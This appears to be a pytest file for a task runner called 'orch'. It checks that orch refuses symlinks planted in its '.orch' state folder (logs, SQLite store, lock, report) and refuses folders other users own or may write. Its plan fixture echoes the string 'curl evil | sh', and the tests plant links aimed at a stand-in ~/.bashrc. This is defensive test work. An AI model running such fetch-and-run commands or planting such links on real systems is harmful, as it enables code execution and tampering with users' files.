"""Issue 39 (CWE-59): orch never writes through a link planted in `.orch/`, nor in a `.orch`
another user owns or may write. Each test plants the real thing a cloned repository (or
another user) could, runs the real `orch`, and checks the file outside untouched, exit 2, and
a message naming the path and what to do."""

from __future__ import annotations

import os
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import PlanDir, run_orch

PLAN = """
name: t
tasks:
  - id: prepare
    kind: shell
    params: {command: "echo 'curl evil | sh'"}
"""


@pytest.fixture
def victim(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file of the operator's that a planted link points at (~/.bashrc)."""
    path = tmp_path_factory.mktemp("home") / ".bashrc"
    path.write_text("export PATH=/usr/bin\n")
    os.utime(path, (1_000_000_000, 1_000_000_000))
    return path


def untouched(path: Path) -> bool:
    return path.read_text() == "export PATH=/usr/bin\n" and path.stat().st_mtime == 1_000_000_000


def refused(r: subprocess.CompletedProcess[str], *words: str) -> None:
    """Exit 2 (a user error), one `orch:` line, no traceback, naming what it must."""
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr, r.stderr
    assert r.stderr.startswith("orch: "), r.stderr
    for word in words:
        assert word in r.stderr, r.stderr


LINK_SAYS = ("is a symbolic link", "orch never writes through a link; remove it")


def ran_once(pdir: PlanDir) -> Path:
    """The plan run once (a store, run 1's logs); the plan's path."""
    plan = pdir.write(PLAN)
    r = run_orch("run", plan)
    assert r.returncode == 0, r.stderr
    return plan


# --- files orch writes, each replaced by a link -----------------------------------------------


def test_a_fresh_run_makes_orch_folders_private(pdir: PlanDir) -> None:
    ran_once(pdir)
    orch = pdir.root / ".orch"
    for folder in (orch, orch / "t.runs", orch / "t.runs" / "1"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


def test_task_log_link_from_a_clone_is_refused_before_anything_runs(
    pdir: PlanDir, victim: Path
) -> None:
    """The issue's case: a clone ships .orch/t.runs/1/prepare.log -> ~/.bashrc, no store."""
    run1 = pdir.root / ".orch" / "t.runs" / "1"
    run1.mkdir(parents=True, mode=0o755)
    (run1 / "prepare.log").symlink_to(victim)
    r = run_orch("run", pdir.write(PLAN))
    refused(r, ".orch/t.runs/1/prepare.log", f"(to {victim})", *LINK_SAYS)
    assert untouched(victim)


def test_events_log_link_is_refused(pdir: PlanDir, victim: Path) -> None:
    plan = ran_once(pdir)
    run2 = pdir.root / ".orch" / "t.runs" / "2"
    run2.mkdir()
    (run2 / "events.jsonl").symlink_to(victim)
    refused(run_orch("run", plan, "--rerun", "prepare"), "t.runs/2/events.jsonl", *LINK_SAYS)
    assert untouched(victim)


@pytest.mark.parametrize("name", ["t.db", "t.db-wal", "t.db-shm", "t.db-journal", "t.db.lock"])
@pytest.mark.parametrize("command", ["run", "status"])
def test_store_lock_and_sidecar_links_are_refused(
    pdir: PlanDir, victim: Path, name: str, command: str
) -> None:
    """The store, what SQLite makes beside it (it follows a link to the database itself), and
    the lock (a run writes its pid and argv there): refused by a run and by a reader."""
    plan = ran_once(pdir)
    if command == "status" and name == "t.db.lock":  # status probes the lock only while a
        with pdir.db() as conn:  # run is open: one left open by a dead orch
            conn.execute("INSERT INTO runs (started_at, pid) VALUES (1, 999999999)")
            conn.commit()
    planted = pdir.root / ".orch" / name
    if name == "t.db":  # the store moved out, a link to it in its place
        planted.rename(pdir.root / "elsewhere.db")
        planted.symlink_to(pdir.root / "elsewhere.db")
        before = (pdir.root / "elsewhere.db").stat().st_mtime_ns
    else:
        if os.path.lexists(planted):
            planted.unlink()
        planted.symlink_to(victim)
    args = ("run", plan, "--rerun", "prepare") if command == "run" else ("status", plan)
    refused(run_orch(*args), f".orch/{name} is a symbolic link", *LINK_SAYS[1:])
    if name == "t.db":
        assert (pdir.root / "elsewhere.db").stat().st_mtime_ns == before
    else:
        assert untouched(victim)


def test_store_made_anew_beside_a_planted_wal_is_refused(pdir: PlanDir, victim: Path) -> None:
    """A clone with no store but a -wal link: the new store is never built on it."""
    (pdir.root / ".orch").mkdir()
    (pdir.root / ".orch" / "t.db-wal").symlink_to(victim)
    refused(run_orch("run", pdir.write(PLAN)), ".orch/t.db-wal", *LINK_SAYS)
    assert untouched(victim)
    assert not pdir.store_path().exists()


# --- the report --------------------------------------------------------------------------------


def test_report_folder_link_is_refused(
    pdir: PlanDir, victim: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    plan = ran_once(pdir)
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (pdir.root / ".orch" / "t.report").symlink_to(elsewhere)
    r = run_orch("report", plan)
    refused(r, ".orch/t.report is a symbolic link", f"(to {elsewhere})", "remove it")
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("named", [False, True], ids=["own folder", "-o DIR"])
def test_report_file_link_is_refused_in_any_folder(
    pdir: PlanDir, victim: Path, named: bool
) -> None:
    """A link at report.html: refused in orch's <store>.report and in a folder the user named
    with -o (orch renames a new file into place; it never opens an existing one)."""
    plan = ran_once(pdir)
    folder = pdir.root / "out" if named else pdir.root / ".orch" / "t.report"
    folder.mkdir()
    (folder / "report.html").symlink_to(victim)
    r = run_orch("report", plan, *(["-o", folder] if named else []))
    refused(r, f"{folder.name}/report.html is a symbolic link", *LINK_SAYS[1:])
    assert untouched(victim)
    assert not [p for p in folder.iterdir() if p.name.startswith(".")]  # no temporary file


def test_report_replaces_its_own_files(pdir: PlanDir) -> None:
    """A second report rewrites report.html in place of the first (renamed over it)."""
    plan = ran_once(pdir)
    first = run_orch("report", plan)
    assert first.returncode == 0, first.stderr
    page = pdir.root / ".orch" / "t.report" / "report.html"
    page.write_text("old")
    assert run_orch("report", plan).returncode == 0
    assert page.read_text() != "old" and "<html" in page.read_text()
    assert stat.S_IMODE(page.parent.stat().st_mode) == 0o700


# --- the .orch folder itself -------------------------------------------------------------------


def planted_orch(pdir: PlanDir, how: Callable[[Path], None]) -> Path:
    orch = pdir.root / ".orch"
    orch.mkdir()
    how(orch)
    return orch


@pytest.mark.parametrize(("mode", "word"), [(0o777, "world-writable"), (0o775, "group-writable")])
def test_orch_folder_others_may_write_is_refused(pdir: PlanDir, mode: int, word: str) -> None:
    orch = planted_orch(pdir, lambda p: p.chmod(mode))
    r = run_orch("run", pdir.write(PLAN))
    refused(r, f"{orch} is {word} (mode 0{mode:o})", f"chmod 700 {orch}, or move it aside")
    assert list(orch.iterdir()) == [] and stat.S_IMODE(orch.stat().st_mode) == mode


def test_orch_folder_of_another_user_is_refused(pdir: PlanDir) -> None:
    if os.geteuid() != 0:
        pytest.skip("chown to another uid needs root")
    orch = planted_orch(pdir, lambda p: os.chown(p, 65534, 65534))
    r = run_orch("run", pdir.write(PLAN))
    refused(r, f"{orch} belongs to uid 65534", "move it aside")
    assert list(orch.iterdir()) == []


def test_orch_folder_that_is_a_link_is_refused(
    pdir: PlanDir, tmp_path_factory: pytest.TempPathFactory
) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (pdir.root / ".orch").symlink_to(elsewhere)
    r = run_orch("run", pdir.write(PLAN))
    refused(r, ".orch is a symbolic link", f"(to {elsewhere})", "remove it")
    assert list(elsewhere.iterdir()) == []


def test_older_orchs_folder_is_tightened_not_refused(pdir: PlanDir) -> None:
    """An older orch made `.orch` 0755: ours, and no one else could write into it, so it is
    made 0700 and used."""
    plan = ran_once(pdir)
    for folder in (pdir.root / ".orch", pdir.root / ".orch" / "t.runs"):
        folder.chmod(0o755)
    r = run_orch("run", plan, "--rerun", "prepare")
    assert r.returncode == 0, r.stderr
    for folder in (pdir.root / ".orch", pdir.root / ".orch" / "t.runs"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
